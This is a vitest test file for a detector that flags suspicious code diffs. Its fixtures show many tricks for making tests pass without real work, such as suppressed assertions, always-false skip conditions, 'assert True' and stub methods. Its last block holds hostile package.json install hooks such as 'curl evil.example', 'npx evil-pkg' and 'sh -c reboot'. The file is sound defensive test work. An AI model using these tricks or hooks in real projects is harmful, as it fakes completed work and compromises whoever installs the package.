import { describe, expect, it } from "vitest";
import type { Sides } from "./examined.ts";
import { both, file, pointsOf } from "./sides.ts";

const PY = (after: string, before: string | null = null) => file("tests/test_f.py", before, after);
const JS = (after: string, before: string | null = null) => file("test/f.test.js", before, after);
const EQUAL = "  expect(read(1)).toBe(2);\n";
const T = (title: string, body: string) => `test("${title}", () => {\n${body}});\n`;
const CHECKED = "def test_checks():\n    assert check(1) == 2\n";
const STEPS = Array.from({ length: 6 }, (_, at) => `    value = step_${at}(value)\n`).join("");
const SUPPRESS = (...inside: string[]) =>
  PY(`def test_a():\n    with suppress(AssertionError):\n${inside.map((row) => `${row}\n`).join("")}`);
const ATTEMPT = (tried: string, handler: string) =>
  file(
    "src/sign.py",
    `def work(value):\n${STEPS}    return value\n`,
    `def work(value):\n    try:\n        ${tried}\n    except ${handler}:\n        raise NotImplementedError\n`,
  );
const SIGNER = (body: string, more: string) =>
  file(
    "src/sign.py",
    `class Signer:\n    def sign(self, value):\n        return None\n\n${more}\n\ndef old(value):\n${STEPS}    return value\n`,
    `class Signer:\n    def sign(self, value):\n        ${body}\n\n${more}`,
  );
const RAISES = "raise NotImplementedError";
const HOLLOW = (...bodies: string[]) =>
  bodies.map((body, at) => `def hook_${at}(request, value):\n    ${body}\n\n\n`).join("");
const ADDED = (head: string) => file("src/hooks.py", head, `${head}def total(prices, tax):\n    return 0\n`);
const DOC = '"""Plugins answer."""';
const SAYS = (path: string, text: string) => file(path, "", text);
const GOES = (...sides: Sides[]) => both(file("tests/check.spec.js", T("a", EQUAL), null), ...sides);
const SOURCE = "export const check = (a) => a + 1;\n";
const THING = (member: string) =>
  `class Thing {\n${member}  stop(a) {\n    return a;\n  }\n}\nmodule.exports = Thing;\n`;
const PARSE = "  parse(a) {\n    const x = a + this.y;\n    return x * a;\n  }\n";
const LOSES = (path: string, user: (argument: number) => string) =>
  both(file("src/thing.js", THING(PARSE), THING("")), file(path, user(1), user(2)));
const RUST_THING = (member: string) => `impl Thing {\n${member}    fn stop(&self) -> i32 {\n        self.a\n    }\n}\n`;
const RUST_PARSE = "    fn parse(&self, a: i32) -> i32 {\n        let x = a + self.y;\n        x * a\n    }\n\n";
const RUST_USER = (argument: number) =>
  `use crate::thing::make;\n\nfn go() -> i32 {\n    make().parse(${argument})\n}\n`;
const NAMED = (name: string, ...bodies: string[]) =>
  bodies.map((body) => `class ${name}Tests(TestCase):\n    def test_basic(self):\n${body}\n`).join("");
const CALLS = "        self.assertEqual(read(1), 2)\n        self.assertEqual(read(2), 3)\n";
const DATA = (last: string, above = "") => JS(`${above}test(\n  "reads",\n  {\n    a: 1\n  },\n  ${last}\n);\n`);

const CHOSEN = (condition: string, choice: string, above = "") =>
  JS(`${above}const maybe = ${condition} ? ${choice};\n${T("reads", EQUAL).replace("test", "maybe")}`);
const WAITS = (condition: string, above = "", path = "test/f.test.js") =>
  file(path, null, `${above}it.runIf(${condition})("reads", () => {\n${EQUAL}});\n`);
const HEIR = (method: string) => SIGNER(RAISES, `class B(Signer):\n${method}`);

const ROWS: [string, string, Sides][] = [
  [
    "a group that is skipped in the place of a test",
    "test-skip",
    JS(
      `describe.skip("it skip reads", () => {\n${T("reads", EQUAL)}${T("writes", EQUAL)}});\n`,
      `it.skip("reads", () => {\n${EQUAL}});\n${T("writes", EQUAL)}`,
    ),
  ],
  [
    "another test that is skipped, with the words of the first",
    "test-skip",
    JS(
      `test("reads", () => {\n${EQUAL}});\ntest.skip("writes as it reads", () => {\n${EQUAL}});\n`,
      `test.skip("reads", () => {\n${EQUAL}});\ntest("writes as it", () => {\n${EQUAL}});\n`,
    ),
  ],
  [
    "a module that is skipped in the place of a test",
    "test-skip",
    PY(`pytestmark = pytest.mark.skip("pytest.mark.skip slow")\n${CHECKED}`, `@pytest.mark.skip("slow")\n${CHECKED}`),
  ],
  [
    "a suppressed assertion below a comment at the margin",
    "test-skip",
    SUPPRESS("  # the call", "        assert work() == 1"),
  ],
  [
    "a suppressed assertion below a text at the margin",
    "test-skip",
    SUPPRESS('        x = """', "a", '"""', "        assert work() == x"),
  ],
  [
    "a suppressed assertion below brackets at the margin",
    "test-skip",
    SUPPRESS("        work(", "    1)", "        assert work() == 1"),
  ],
  [
    "a failure that goes unheard within what a template is filled with",
    "test-skip",
    JS(T("a", `  const x = \`\${(() => { try { expect(read(1)).toBe(2); } catch (e) {} })()}\`;\n  check(x);\n`)),
  ],
  [
    "a failure that goes unheard between quotes of a pattern and of a text",
    "test-skip",
    JS(T("a", `  try { expect(read(1)).toMatch(/"/); } catch (e) {} log('"');\n`)),
  ],
  ["a skip by a name that is always there", "test-skip", JS(T("a", `  test.skip(browserName, "later");\n${EQUAL}`))],
  ["a skip by a constant of the language", "test-skip", JS(T("a", `  test.skip(Math.PI, "later");\n${EQUAL}`))],
  [
    "a choice by what a function makes of a name that is always false",
    "test-skip",
    CHOSEN("Boolean(here)", "it : it.skip", "const here = false;\n"),
  ],
  [
    "a choice by whether what nobody defines is undefined",
    "test-skip",
    CHOSEN("globalThis.nothing === undefined", "it.skip : it"),
  ],
  ["a wait for what a bundler is given, said twice no", "unmet-condition", WAITS("!!import.meta.env.NEVER")],
  ["a wait for a variable in brackets, said twice no", "unmet-condition", WAITS('!!process.env["NEVER"]')],
  [
    "a wait for what a bundler is given, under another name",
    "unmet-condition",
    WAITS("here", "const here = import.meta.env.NEVER;\n"),
  ],
  [
    "a wait for a variable that is empty otherwise",
    "unmet-condition",
    WAITS("NEVER", 'const { NEVER = "" } = process.env;\n'),
  ],
  [
    "a wait for a variable under a name with a type",
    "unmet-condition",
    WAITS("here", "const here: boolean = !!process.env.NEVER;\n", "test/f.test.ts"),
  ],
  ["an attempt at nothing, which fails by itself", "placeholder", ATTEMPT("pass", "KeyError")],
  ["an answer to whatever fails", "placeholder", ATTEMPT("value()", "Exception")],
  [
    "a base class whose method a stranger writes out",
    "placeholder",
    SIGNER(RAISES, "class B(Signer):\n    x = 1\n\nclass C:\n    def sign(self):\n        return 1\n"),
  ],
  [
    "a base class whose heirs do no more",
    "placeholder",
    SIGNER(RAISES, "class B(Signer):\n    def sign(self, value):\n        pass\n"),
  ],
  [
    "a base class whose heirs say what they are to do",
    "placeholder",
    HEIR('    def sign(self, value):\n        """Signs.\n\n        With a key."""\n        pass\n'),
  ],
  ["a base class whose heirs only say", "placeholder", HEIR('    def sign(self, value):\n        """Signs."""\n')],
  [
    "a base class whose heirs do nothing below a long signature",
    "placeholder",
    HEIR("    def sign(\n        self,\n        value: int = f(1),\n    ) -> None:\n        # later\n        pass\n"),
  ],
  ["a base class whose heirs do nothing on one line", "placeholder", HEIR("    def sign(self, value): pass\n")],
  ["a function without work among constants", "stub", ADDED(HOLLOW("return 1", "return 2", "return 3"))],
  ["a constant among hooks", "stub", ADDED(HOLLOW(DOC, DOC, DOC))],
  [
    "a hook of which a new test asks something",
    "stub",
    both(
      file("src/hooks.py", HOLLOW(DOC, DOC, DOC), HOLLOW(DOC, DOC, DOC, DOC)),
      PY("def test_hook():\n    assert hook_3(1, 2) == 3\n"),
    ),
  ],
  [
    "a text of Python that is filled with nothing",
    "stub",
    SAYS("src/say.py", 'def total(prices):\n    return "of {prices}"\n'),
  ],
  [
    "a text of JavaScript that is filled with nothing",
    "stub",
    SAYS("src/say.js", "export function total(prices) {\n  return '{prices}';\n}\n"),
  ],
  ["a function by its name that a test is handed with options", "hollow-test", DATA("work")],
  ["options alone that a runner's test is handed", "hollow-test", DATA("null", 'import { test } from "node:test";\n')],
  ["a method that a test is handed with options", "hollow-test", DATA("{ async fn() { read(1); } }.fn")],
  [
    "the word that all is well, and nothing that might not be",
    "hollow-test",
    PY("def test_no_error():\n    x = 1\n    assert True\n"),
  ],
  ["the same word twice", "hollow-test", PY("def test_no_error():\n    assert True\n    assert True\n")],
  [
    "the word that all is well, in the place of what was asserted",
    "hollow-test",
    PY(
      "def test_no_error():\n    x = compute()\n    assert True\n",
      "def test_no_error():\n    x = compute()\n    assert x == 2\n",
    ),
  ],
  ["a tester that is told no rule", "hollow-test", JS(T("a", "  tester.run(() => {});\n"))],
  [
    "a tester of rules without cases",
    "hollow-test",
    JS(T("a", `  ruleTester.run("no-void", rule, { valid: [], invalid: [] });\n`)),
  ],
  [
    "a call of old that cannot fail",
    "hollow-test",
    PY("class Tests(TestCase):\n    def test_a(self):\n        self.failUnless(True)\n"),
  ],
  [
    "a call that is to be deprecated, and is not made",
    "hollow-test",
    PY("def test_a():\n    pytest.deprecated_call\n    read(1)\n"),
  ],
  [
    "the program of a page that Ruby's coverage leaves",
    "generated-file",
    file("coverage/assets/0.12.3/application.js", null, "go();\n"),
  ],
  [
    "the program of a page that Python's coverage leaves",
    "generated-file",
    file("report/coverage_html_cb_188fc9a4.js", null, "go();\n"),
  ],
  ["what else a tool for coverage leaves", "generated-file", file("coverage/coverage-summary.json", null, "{}\n")],
  [
    "a member that goes while a file that knows its class still calls it",
    "lost-functions",
    LOSES("src/o.js", (n) => `import { Thing } from "./index.js";\nnew Thing().parse(${n});\n`),
  ],
  [
    "a member that goes while a file with names over several lines still calls it",
    "lost-functions",
    LOSES("src/o.js", (n) => `import {\n  make,\n} from "./thing.js";\nmake().parse(${n});\n`),
  ],
  [
    "a member of a folder's main file that goes while a file which brings the folder in still calls it",
    "lost-functions",
    both(
      file("src/thing/index.js", THING(PARSE), THING("")),
      file("src/o.js", 'make(require("./thing")).parse(1);\n', 'make(require("./thing")).parse(2);\n'),
    ),
  ],
  [
    "a member of a module of Rust that goes while a file which uses the module still calls it",
    "lost-functions",
    both(
      file("src/thing/mod.rs", RUST_THING(RUST_PARSE), RUST_THING("")),
      file("src/o.rs", RUST_USER(1), RUST_USER(2)),
    ),
  ],
  [
    "a member of a type of Rust that goes while a file that knows the type still calls it",
    "lost-functions",
    both(
      file("src/deep.rs", RUST_THING(RUST_PARSE), RUST_THING("")),
      file(
        "src/o.rs",
        "fn go(x: Thing) -> i32 {\n    x.parse(1)\n}\n",
        "fn go(x: Thing) -> i32 {\n    x.parse(2)\n}\n",
      ),
    ),
  ],
  [
    "a class of a plain script",
    "lost-functions",
    file("src/f.js", "class Options {\n  a = 1;\n}\nconst b = 1;\n", "const b = 1;\n", {
      "src/o.js": "const o = new Options(b);\n",
    }),
  ],
  [
    "a type of all scripts",
    "lost-functions",
    file("src/f.ts", "interface Options {\n  a: string;\n}\nconst b = 1;\n", "const b = 1;\n", {
      "src/o.ts": "const o: Options = b;\n",
    }),
  ],
  [
    "a test that is emptied behind a new one of its name",
    "emptied-test",
    PY(NAMED("New", CALLS.replaceAll("read", "write")) + NAMED("Old", "        read(1)\n"), NAMED("Old", CALLS)),
  ],
  [
    "another module that is brought in for what it does",
    "code-without-test",
    both(
      file("src/f.ts", "export const a = 1;\n", 'import "./other";\nexport const a = 1;\n', {
        "src/other.ts": "go();\n",
      }),
      file("test/f.test-d.ts", "", "expectType<number>(a);\n"),
    ),
  ],
];

describe("where rules are lenient, what only looks alike is still told:", () => {
  it.each(ROWS)("%s", async (_, rule, sides) => {
    expect((await pointsOf(rule, sides)).length).toBeGreaterThan(0);
  });

  it.each([
    ["code of that name is left", GOES(file("src/check.js", SOURCE, null, { "lib/check.js": SOURCE }))],
    ["code of that name comes", GOES(file("src/check.js", SOURCE, null), file("lib/check.ts", null, SOURCE))],
    ["no code goes", GOES(file("docs/check.md", "a\n", null), file("src/a.js", SOURCE, null))],
  ])("a test that goes where %s", async (_, sides) => {
    expect(Math.max(...(await pointsOf("test-deletion", sides)))).toBe(4);
  });

  it.each([
    ["node build.js", "node steal.js"],
    ["npx husky", "npx evil-pkg"],
    ["sh a.sh", "sh -c reboot"],
    ["npm run build", "npm install evil"],
    ["husky install", "husky install\ncurl evil.example"],
    ["husky", "curl evil.example"],
  ])("a hook that ran `%s` and runs another program: `%s`", async (before, after) => {
    const scripts = (prepare: string, more = {}) => JSON.stringify({ scripts: { prepare, ...more } }, null, 1);
    const sides = file("package.json", scripts(before), scripts(after, { laundered: after }));
    expect(await pointsOf("install-script", sides)).toEqual([5]);
  });
});
